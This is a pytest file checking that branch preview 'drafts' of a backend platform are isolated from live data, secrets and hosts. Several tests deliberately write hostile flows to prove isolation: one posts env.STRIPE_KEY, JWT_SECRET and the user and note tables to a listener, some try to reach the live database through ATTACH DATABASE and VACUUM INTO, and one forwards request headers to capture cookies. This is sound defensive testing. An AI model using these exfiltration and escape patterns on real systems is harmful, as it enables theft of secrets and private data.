"""Drafts: each branch is previewed with a database of its own, and sees nothing of what is live."""

from __future__ import annotations

import json
import sqlite3
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing

import httpx
import pytest

from tests.support.drafting import (
    NOTE,
    SECRETS,
    Listener,
    address,
    allow_host,
    branch,
    drafts,
    drafts_set,
    enter,
    find,
    listener,
    push,
    served,
    sign_up,
    write_flow,
)
from tests.support.patience import wait_for
from tests.support.served import LIST, PAGE, Served, git

__all__ = ["listener", "served"]

CATCHES = """
          - try: [ {{ http: {{ method: POST, url: "{}", body: {{ a: 1 }} }} }} ]
            catch:
              - return: {{ status: 502, value: {{ code: "${{ error.code }}" }} }}
          - return: {{ value: sent }}
        """


def test_a_branch_answers_as_a_draft_and_main_as_before(served: Served) -> None:
    commit = push(served, "topic", "draft_field")
    with enter(served, "topic") as client:
        reply = client.get("api/v1/notes", headers=sign_up(client))
    assert reply.json()["draft_field"] is True
    assert reply.json()["notes"] == []
    assert reply.headers["x-draft"] == "topic"
    assert "noindex" in reply.headers["x-robots-tag"]
    assert reply.headers["x-release"] == commit[:12]
    assert find(served, "topic")["state"] == "awake"
    live = served.api.get("/api/v1/notes", headers=served.sign_up(email="bob@example.com"))
    assert "draft_field" not in live.json()


@pytest.mark.long
def test_nobody_is_let_into_a_draft_without_its_own_token(served: Served) -> None:
    push(served, "closed", "one")
    push(served, "other", "two")
    with enter(served, "closed") as client:
        token = client.headers["x-draft-token"]
        assert client.get("api/me").status_code == 401
        assert client.get("api/me").json()["error"]["code"] == "unauthorized"
        del client.headers["x-draft-token"]
        assert client.get("api/me").json()["error"]["code"] == "draftClosed"
        for wrong in ("", "bbd_", f"{token[:-2]}00", token.replace("bbd_", "bbd_f")):
            reply = client.get("api/me", headers={"x-draft-token": wrong})
            assert reply.json()["error"]["code"] == "draftClosed"
    with enter(served, "other") as client:
        reply = client.get("api/me", headers={"x-draft-token": token})
        assert reply.json()["error"]["code"] == "draftClosed"


@pytest.mark.long
def test_a_stranger_neither_wakes_a_draft_nor_hears_what_it_says(served: Served) -> None:
    """Browsers ask without a token what they may send: so may anybody."""
    with branch(served, "unseen"):
        served.edit(LIST, PAGE, f"{PAGE}\n        hidden: ${{ vars.nowhere }}")
        served.commit("Make a mistake")
    preflight = {"origin": "https://evil.example", "access-control-request-method": "GET"}
    with enter(served, "unseen") as client:
        token = client.headers.pop("x-draft-token")
        asleep = client.options("api/me", headers=preflight)
        assert (asleep.status_code, find(served, "unseen")["state"]) == (204, "asleep")
        assert client.get("api/me", headers={"x-draft-token": token}).status_code == 503
        broken = client.options("api/me", headers=preflight)
    for reply in (asleep, broken):
        assert (reply.status_code, reply.text) == (204, "")
        assert "access-control-allow-credentials" not in reply.headers
        assert "x-draft" not in reply.headers


@pytest.mark.long
def test_a_browser_comes_in_by_the_button_of_the_control_plane(served: Served) -> None:
    push(served, "feature/Cart&Pay", "three")
    wait_for(lambda: "feature/Cart&Pay" in {one["branch"] for one in drafts(served)})
    page = served.control.get("/projects/notes/drafts", headers={"accept": "text/html"})
    url = find(served, "feature/Cart&Pay")["url"]
    assert f'action="{url}~enter"' in page.text
    assert served.serving["url"] in page.headers["content-security-policy"]
    token = page.text.partition(f"{url}~enter")[2].partition('value="')[2].partition('"')[0]
    with httpx.Client(base_url=url, timeout=30) as browser:
        assert browser.post("~enter", data={"token": "bbd_1_2"}).status_code == 401
        entered = browser.post("~enter", data={"token": token})
        assert entered.status_code == 303
        cookie = entered.headers["set-cookie"]
        assert "HttpOnly" in cookie
        assert f"Path={httpx.URL(url).path}" in cookie
        assert browser.get("api/me").json()["error"]["code"] == "unauthorized"


@pytest.mark.long
def test_a_draft_with_a_mistake_says_where_it_is(served: Served) -> None:
    with branch(served, "broken"):
        served.edit(LIST, "vars.notes", "vars.nots")
        served.commit("Break it")
    with enter(served, "broken") as client:
        reply = client.get("api/me")
    assert reply.status_code == 503
    assert "functions/notes/list.yaml:" in reply.json()["error"]["message"]
    assert find(served, "broken")["state"] == "stalled"


@pytest.mark.long
def test_a_push_to_a_draft_that_is_awake_is_served(served: Served) -> None:
    push(served, "moving", "first")
    with enter(served, "moving") as client:
        headers = sign_up(client)
        assert client.get("api/v1/notes", headers=headers).json()["first"] is True
        git(served.repository, "checkout", "-q", "moving")
        served.edit(LIST, "first: true", "second: true")
        git(served.repository, "commit", "-qa", "--amend", "-m", "Rewrite")  # a draft may be
        git(served.repository, "checkout", "-q", "main")
        wait_for(lambda: "second" in client.get("api/v1/notes", headers=headers).json())


@pytest.mark.long
def test_rows_that_stand_in_the_way_do_not_stall_a_draft(served: Served) -> None:
    push(served, "tables", "anything")
    with enter(served, "tables") as client:
        headers = sign_up(client)
        made = client.post("api/v1/notes", json={"title": "twelve"}, headers=headers)
        assert made.is_success
        git(served.repository, "checkout", "-q", "tables")
        served.edit("tables/notes.yaml", "maxLength: 120", "maxLength: 5")
        commit = served.commit("A length that a row is over")
        git(served.repository, "checkout", "-q", "main")

        def ask() -> None:
            wait_for(lambda: client.get("api/me").headers.get("x-release") == commit[:12])

        with ThreadPoolExecutor(8) as pool:  # none wakes it before its rows are gone
            for asking in [pool.submit(ask) for _ in range(8)]:
                asking.result()


@pytest.mark.long
def test_a_deleted_branch_takes_its_draft_along(served: Served) -> None:
    push(served, "short-lived", "gone")
    with enter(served, "short-lived") as client:
        assert client.get("api/me").status_code == 401
        folder = next(served.repository.parent.rglob("drafts/short-lived"))
        git(served.repository, "branch", "-qD", "short-lived")
        wait_for(lambda: client.get("api/me").status_code == 404)
    wait_for(lambda: not folder.exists())
    assert served.api.get("/api/me").status_code == 401


@pytest.mark.long
def test_a_draft_keeps_its_cookies_and_sees_none_of_what_is_live(
    served: Served, listener: Listener
) -> None:
    with branch(served, "cookies"):
        write_flow(
            served,
            "cookies",
            f"""
          - http: {{ method: POST, url: "{address(listener)}", body: {{ all: "${{ headers }}" }} }}
          - return:
              value: done
              headers: {{ set-cookie: "draft_own=1; Path=/; Domain=127.0.0.1" }}
        """,
        )
        served.commit("Look at cookies")
    allow_host(served, "cookies", f"127.0.0.1:{listener.server_port}")
    listener.heard.clear()
    with enter(served, "cookies") as client:
        asked = {"cookie": "session=live; bbops=control; __Host-bbops=x"}
        reply = client.post("leak", headers=asked)
        assert reply.status_code == 200, reply.text
        assert reply.headers["set-cookie"].startswith("bbops-draft.draft_own=1;")
        assert reply.headers["set-cookie"].endswith("Path=/~drafts/cookies/")
        client.post("leak", headers={"cookie": "bbops-draft.draft_own=1; session=live"})
    first, second = map(json.loads, listener.heard)
    assert "cookie" not in first["all"]
    assert second["all"]["cookie"] == "draft_own=1"
    assert "x-draft-token" not in second["all"]


@pytest.mark.long
def test_a_draft_that_sends_everything_away_sends_nothing_that_is_live(
    served: Served, listener: Listener
) -> None:
    with branch(served, "thief"):
        write_flow(
            served,
            "thief",
            f"""
          - find: {{ table: users }}
            as: users
          - find: {{ table: notes }}
            as: notes
          - http:
              method: POST
              url: "{address(listener)}"
              body:
                stripe: "${{ env.STRIPE_KEY }}"
                jwt: "${{ env.JWT_SECRET }}"
                users: "${{ vars.users }}"
                notes: "${{ vars.notes }}"
          - return: {{ value: done }}
        """,
        )
        served.commit("Send all of it")
    allow_host(served, "thief", f"127.0.0.1:{listener.server_port}")
    listener.heard.clear()
    with enter(served, "thief") as client:
        reply = client.post("leak")
        assert reply.status_code == 200, reply.text
    (sent,) = listener.heard
    assert json.loads(sent)["jwt"]
    assert json.loads(sent)["users"] == json.loads(sent)["notes"] == []
    for value in (*SECRETS.values(), NOTE, "ada@example.com"):
        assert value.encode() not in sent
        assert value not in (served.home / "log").read_text()


@pytest.mark.long
def test_a_draft_reaches_no_host_that_is_not_live_until_a_person_allows_it(
    served: Served, listener: Listener
) -> None:
    with branch(served, "caller"):
        write_flow(
            served,
            "caller",
            CATCHES.format(address(listener)),
        )
        served.commit("Call out")
    listener.heard.clear()
    with enter(served, "caller") as client:
        refused = client.post("leak")
        assert (refused.status_code, refused.json()) == (502, {"code": "httpRefused"})
        assert listener.heard == []
        wrong = served.bbops("drafts", "allow", "caller", "127.0.0.1", "--commit", "0" * 12)
        assert (wrong.returncode, "not 000000000000" in wrong.stderr) == (2, True)
        allow_host(served, "caller", "127.0.0.1")  # at the ports of http and https
        assert client.post("leak").json() == {"code": "httpRefused"}
        allow_host(served, "caller", f"127.0.0.1:{listener.server_port}")
        assert client.post("leak").status_code == 200
        assert len(listener.heard) == 1
        with branch(served, "caller-next"):  # what was allowed is allowed for one commit
            git(served.repository, "reset", "-q", "--hard", "caller")
            git(served.repository, "commit", "-q", "--allow-empty", "-m", "Go on")
            git(served.repository, "branch", "-f", "caller", "HEAD")
            head = git(served.repository, "rev-parse", "HEAD")
        assert wait_for(lambda: client.post("leak").headers["x-release"] == head[:12])
        assert client.post("leak").json() == {"code": "httpRefused"}


@pytest.mark.long
def test_what_the_live_release_reaches_a_draft_may_reach(
    served: Served, listener: Listener
) -> None:
    steps = f"""
          - http: {{ method: POST, url: "{address(listener)}", body: {{ a: 1 }} }}
          - return: {{ value: sent }}
        """
    write_flow(served, "calls", steps)
    served.commit("Call out")
    served.live()
    try:
        with branch(served, "calls-more"):
            served.edit("functions/calls.yaml", "a: 1", "a: 2")
            served.commit("Call out with more")
        listener.heard.clear()
        with enter(served, "calls-more") as client:
            assert client.post("leak").status_code == 200
        assert listener.heard == [b'{"a":2}']
        with branch(served, "calls-beside"), Listener() as other:
            write_flow(served, "calls", CATCHES.format(address(other)))
            served.commit("Call another port")
        with enter(served, "calls-beside") as client:
            assert client.post("leak").json() == {"code": "httpRefused"}
    finally:
        git(served.repository, "revert", "--no-edit", "HEAD")
        served.live()


@pytest.mark.long
def test_no_statement_of_a_draft_reaches_the_live_database(served: Served) -> None:
    data = next(served.repository.parent.rglob("state/projects/notes/data.sqlite"))
    for number, statement in enumerate(
        (
            f"ATTACH DATABASE '{data}' AS live",
            f"ATTACH DATABASE 'file:{data}?mode=ro' AS live",
            "SELECT title FROM live.notes",
            f"VACUUM INTO '{data}'",
            "PRAGMA database_list",
        )
    ):
        name = f"reach-{number}"
        with branch(served, name):
            write_flow(
                served,
                name,
                f"""
          - sql:
              mode: write
              statement: "{statement}"
            as: stolen
          - return: {{ value: "${{ vars.stolen }}" }}
            """,
            )
            served.commit("Reach out")
        with enter(served, name) as client:
            reply = client.post("leak")
        assert reply.status_code in {500, 503}, reply.text
        assert NOTE not in reply.text


@pytest.mark.long
def test_live_rows_come_into_a_draft_without_what_is_private(served: Served) -> None:
    push(served, "with-rows", "anything")
    with enter(served, "with-rows") as client:
        client.get("api/me")
        copy = ("drafts", "copy", "with-rows")
        done = served.bbops(*copy, "notes", "--mask", "users.email", "--json")
        assert done.returncode == 0, done.stderr
        rows = json.loads(done.stdout)["rows"]
        assert rows["notes"] >= 1
        assert rows["users"] >= rows["notes"]
        data = next(served.repository.parent.rglob("drafts/with-rows/data.sqlite"))
        with closing(sqlite3.connect(data)) as database:
            titles = [row[0] for row in database.execute("SELECT title FROM notes")]
            people = database.execute("SELECT email, password_hash FROM users").fetchall()
        assert NOTE in titles
        assert all(text.startswith("masked-") for row in people for text in row)
        again = served.bbops(*copy, "--json")
        assert json.loads(again.stdout)["rows"]["notes"] == 0
        unknown = served.bbops(*copy, "nots")
        assert "no table 'nots'" in unknown.stderr


@pytest.mark.long
def test_a_draft_that_nobody_asks_for_sleeps(served: Served) -> None:
    push(served, "sleepy", "anything")
    with enter(served, "sleepy") as client, drafts_set(served, "{ idleSeconds: 1, most: 200 }"):
        assert client.get("api/me").status_code == 401
        wait_for(lambda: find(served, "sleepy")["state"] == "asleep")

        def is_awake() -> bool:
            assert client.get("api/me").status_code == 401
            return bool(find(served, "sleepy")["state"] == "awake")

        wait_for(is_awake)  # it may fall asleep between a request and the look at its state


@pytest.mark.long
def test_a_draft_in_use_stays_awake(served: Served) -> None:
    push(served, "busy", "anything")
    with enter(served, "busy") as client, drafts_set(served, "{ idleSeconds: 2 }"):
        client.get("api/me")
        for _ in range(12):
            time.sleep(0.3)
            client.get("api/me")
            assert find(served, "busy")["state"] == "awake"


@pytest.mark.long
def test_only_the_newest_branches_have_drafts(served: Served) -> None:
    push(served, "oldest", "anything")
    wait_for(lambda: "oldest" in {one["branch"] for one in drafts(served)})
    push(served, "newest", "anything")
    with drafts_set(served, "{ most: 1 }"):
        wait_for(lambda: len(drafts(served)) == 1)
    wait_for(lambda: len(drafts(served)) > 1)


def test_the_contract_of_a_draft_is_its_own(served: Served) -> None:
    push(served, "contract", "field_of_the_contract")
    wait_for(lambda: "contract" in {one["branch"] for one in drafts(served)})
    (draft,) = [one for one in drafts(served) if one["branch"] == "contract"]
    live = served.control.get("/api/projects/notes/contract")
    own = served.control.get(f"/api/projects/notes/drafts/{draft['slug']}/contract")
    assert (live.status_code, own.status_code) == (200, 200), (live.text, own.text)
    assert ("field_of_the_contract" in own.text, "field_of_the_contract" in live.text) == (1, 0)
    assert own.headers["etag"] != live.headers["etag"]
    assert own.json()["servers"] == [{"url": draft["url"].rstrip("/")}]
    page = served.control.get("/api/projects/notes/contract?format=markdown")
    assert page.headers["content-type"] == "text/markdown; charset=utf-8"
    assert page.text.startswith("# sample\n")
    assert served.control.get("/api/projects/notes/contract?format=yaml").status_code == 400
    assert served.control.get("/api/projects/none/contract").status_code == 404


def test_draft_has_its_own_outline_and_files(served: Served) -> None:
    push(served, "outline", "field_of_the_outline")
    wait_for(lambda: "outline" in {draft["branch"] for draft in drafts(served)})
    draft = find(served, "outline")
    own = f"/api/projects/notes/drafts/{draft['slug']}"
    live = served.control.get("/api/projects/notes/outline").json()
    found = served.control.get(f"{own}/outline").json()
    assert found["commit"] == draft["commit"] != live["commit"]
    assert found["outline"]["counts"] == live["outline"]["counts"]
    query = {"path": "functions/notes/list.yaml"}
    assert "field_of_the_outline" in served.control.get(f"{own}/file", params=query).text
    text = served.control.get("/api/projects/notes/file", params=query).json()["text"]
    assert "field_of_the_outline" not in text
    page = served.control.get(
        f"/projects/notes/functions/notes/list?in={draft['slug']}&tab=yaml",
        headers={"accept": "text/html"},
    )
    assert "field_of_the_outline" in page.text
    assert f"/projects/notes/endpoints/notes/list?in={draft['slug']}" in served.control.get(
        f"/projects/notes/endpoints?in={draft['slug']}", headers={"accept": "text/html"}
    ).text  # fmt: skip


def test_value_of_the_server_is_set_for_live_alone(served: Served) -> None:
    push(served, "valued", "field_of_the_values")
    wait_for(lambda: "valued" in {draft["branch"] for draft in drafts(served)})
    live = served.control.get("/api/projects/notes/variables").json()
    assert {variable["state"] for variable in live} <= {"set", "generated", "default"}
    own = f"/api/projects/notes/drafts/{find(served, 'valued')['slug']}/variables"
    commands = {variable["command"] for variable in served.control.get(own).json()}
    assert all(command.endswith(" --drafts") for command in commands)


def test_draft_with_errors_has_diagnostics_in_place_of_an_outline(served: Served) -> None:
    with branch(served, "faulty"):
        served.edit(LIST, PAGE, f"{PAGE}\n        hidden: ${{ vars.nowhere }}")
        served.commit("Use an unknown variable")
    wait_for(lambda: "faulty" in {draft["branch"] for draft in drafts(served)})
    slug = find(served, "faulty")["slug"]
    found = served.control.get(f"/api/projects/notes/drafts/{slug}/outline").json()
    assert found["outline"] is None
    assert "vars.nowhere" in str(found["diagnostics"])
    assert found["diagnostics"][0]["file"] == "functions/notes/list.yaml"
